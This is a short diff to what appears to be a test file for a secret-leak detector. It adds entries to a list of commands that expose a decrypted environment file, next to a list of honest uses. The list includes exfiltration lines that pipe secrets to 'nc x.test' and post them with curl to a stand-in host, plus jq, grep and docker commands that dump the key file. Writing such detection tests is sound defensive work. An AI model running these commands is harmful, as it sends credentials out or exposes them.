@@ -127,6 +127,12 @@ OTHER_LEAKS = (
     f"{ASK} > /dev/console",
     f"{ASK} | nc x.test 1",
     f'curl -d "$({ASK})" https://x.test',
+    ASK.replace("-s", "-so /dev/stdout"),
+    f"jq -s . {KEYS}",
+    f"grep -s . {KEYS}",
+    f"grep -v -e -q {KEYS}",
+    f"docker run -v {KEYS}:/k a@sha256:{'3b' * 32} sh -c 'cat /k' -d",
+    "docker-compose --env-file /dstack/.host-shared/.decrypted-env config",
 )
 HONEST = (
     "export $(grep -v '^#' /dstack/.host-shared/.decrypted-env | xargs)",
